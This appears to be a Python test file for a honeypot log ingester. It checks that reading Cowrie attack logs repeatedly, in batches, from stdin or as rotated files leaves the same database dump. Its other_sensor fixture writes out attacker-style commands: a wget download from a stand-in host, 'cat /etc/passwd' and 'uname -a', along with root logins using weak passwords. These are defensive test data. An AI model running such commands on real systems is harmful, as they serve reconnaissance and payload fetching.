"""The same knowledge whatever the way: read twice, under another name, from standard input, packed or not, cut in two,
in another order, in other batches. `decnetctl dump` decides. Prints TAP."""
import gzip
import json

from lab import (INGEST_TOPICS, SAMPLE, TTP_TOPICS, Lab, event_ids, expect, expect_equal, expect_same_dump,
                 first_difference, run_cases)
from logs import Log

lab = Lab("idempotence")
lines = gzip.decompress(SAMPLE.read_bytes()).splitlines(keepends=True)
plain = lab.file("plain.json", b"".join(lines))
reference = {}


def read(*files, batch=500, records=1000, **more):
    report = lab.ingest("--batch", str(batch), *files, **more).json()
    lab.worker(DECNET_BATCH_RECORDS=records)
    return report


def everything_is_read_and_tagged():
    report = read(SAMPLE)
    expect_equal([report["lines"], report["new_lines"], report["bad_lines"]], [len(lines), len(lines), 0], "lines")
    expect(report["attackers"] > 100 and report["sessions"] > 250 and report["commands"] > 600, report)
    reference["dump"] = lab.dump()
    reference["events"] = event_ids(lab.events(*INGEST_TOPICS, *TTP_TOPICS))
    reference["report"] = report
    expect(lab.count("ttp_tag") > 300, "tags:", lab.count("ttp_tag"))
    expect_equal(lab.count("event_outbox"), 0, "rows in the outbox")


def comparison_notices_a_changed_row_of_each_table():
    """Each table: what changes a row of it, and what changes it back."""
    for table, change, back in (
            ("attackers", "event_count = event_count + 1", "event_count = event_count - 1"),
            ("attacker_session", "commands = commands + 1", "commands = commands - 1"),
            ("session_command", "errored = NOT errored", "errored = NOT errored"),
            ("credentials", "attempt_count = attempt_count + 1", "attempt_count = attempt_count - 1"),
            ("bounty", "decky = decky || 'x'", "decky = left(decky, -1)"),
            ("attacker_evidence", "seen = seen + 1", "seen = seen - 1"),
            ("logs", "event_type = event_type || 'x'", "event_type = left(event_type, -1)"),
            ("ttp_tag", "decky_id = decky_id || 'x'", "decky_id = left(decky_id, -1)")):
        changed = lab.sql(f"UPDATE {table} SET {change} WHERE ctid = (SELECT min(ctid) FROM {table}) RETURNING ctid")
        expect(first_difference(reference["dump"], lab.dump()), "a changed row of", table, "went unnoticed")
        lab.sql(f"UPDATE {table} SET {back} WHERE ctid = '{changed}'")
    expect_same_dump(reference["dump"], lab.dump(), "changed and changed back")


def expect_nothing_new(report, n_lines=None):
    expect_equal([report["lines"], report["new_lines"], report["attackers"], report["announced"]],
                 [n_lines or len(lines), 0, 0, 0], "a second reading")


def reading_again_changes_nothing():
    before = len(lab.events(*INGEST_TOPICS, *TTP_TOPICS))
    copy = lab.file("copy.jsonl", plain.read_bytes())
    packed = lab.file("copy.json.gz", gzip.compress(plain.read_bytes()))
    report = read(SAMPLE)
    expect_equal([report["new_lines"], report["lines"]], [0, 0], "the same file: it goes on at its end")
    for file in (copy, packed):
        expect_nothing_new(read(file))
    with open(plain, "rb") as stdin:
        expect_nothing_new(read("-", stdin=stdin))
    expect_same_dump(reference["dump"], lab.dump(), "read four times more")
    expect_equal(len(lab.events(*INGEST_TOPICS, *TTP_TOPICS)), before, "records on the broker")


def from_standard_input():
    lab.wipe()
    with open(plain, "rb") as stdin:
        report = read("-", stdin=stdin)
    for key in ("lines", "new_lines", "attackers", "sessions", "announced", "commands"):
        expect_equal(report[key], reference["report"][key], key)
    expect_same_dump(reference["dump"], lab.dump(), "standard input")


def same_as_reference(what):
    expect_same_dump(reference["dump"], lab.dump(), what)
    expect_equal(event_ids(lab.events(*INGEST_TOPICS, *TTP_TOPICS)) ^ reference["events"], set(), f"{what}: event ids")


def in_batches_of_1():
    lab.wipe()
    read(plain, batch=1, records=1)
    same_as_reference("batches of 1")


def in_batches_of_7():
    lab.wipe()
    read(plain, batch=7, records=7)
    same_as_reference("batches of 7")


def in_batches_of_1000():
    lab.wipe()
    read(plain, batch=1000, records=10000)
    same_as_reference("batches of 1000")


def rotated_files_in_one_call():
    lab.wipe()
    for cut, name in ((1000, "cowrie.json.2026-05-10"), (2100, "cowrie.json.2026-05-11"), (None, "cowrie.json")):
        begin = {1000: 0, 2100: 1000, None: 2100}[cut]
        lab.file(name, b"".join(lines[begin:cut]))
    read(*(lab.folder / n for n in ("cowrie.json", "cowrie.json.2026-05-11", "cowrie.json.2026-05-10")), batch=100)
    same_as_reference("three rotated files")


def rotated_folder():
    lab.wipe()
    folder = lab.folder / "logs"
    folder.mkdir()
    for i, cut in enumerate(range(0, len(lines), 900)):
        (folder / f"cowrie.json.{i}").write_bytes(b"".join(lines[cut:cut + 900]))
    (folder / "notes.txt").write_text("not a log\n")
    read(folder)
    same_as_reference("a folder")


def other_sensor():
    """A log of another sensor with attackers of the sample and of its own, at the same time."""
    events = [json.loads(line) for line in lines]
    known = sorted({e["src_ip"] for e in events})[:40]
    times = sorted(e["timestamp"] for e in events)
    log = Log("edge-77")
    log.now = log.now.fromisoformat(times[len(times) // 3].replace("Z", "+00:00"))
    for i, ip in enumerate(known + ["203.0.113.9"]):
        log.session(ip, "uname -a", f"wget http://198.51.100.{i}/x", "cat /etc/passwd", login=("root", f"pw{i % 3}"))
        log.wait(7)
    return lab.file("edge-77.json", log.bytes())


def independent_files_in_both_orders():
    other = other_sensor()
    dumps = []
    for order in ((plain, other), (other, plain)):
        lab.wipe()
        for file in order:
            read(file)
        dumps.append(lab.dump())
    expect_same_dump(dumps[0], dumps[1], "the other order")
    expect(first_difference(dumps[0], reference["dump"]), "the second file added nothing")
    lab.wipe()
    read(plain, other)
    expect_same_dump(dumps[0], lab.dump(), "both in one call")


run_cases([everything_is_read_and_tagged, comparison_notices_a_changed_row_of_each_table, reading_again_changes_nothing,
           from_standard_input, in_batches_of_1, in_batches_of_7, in_batches_of_1000, rotated_files_in_one_call,
           rotated_folder, independent_files_in_both_orders])
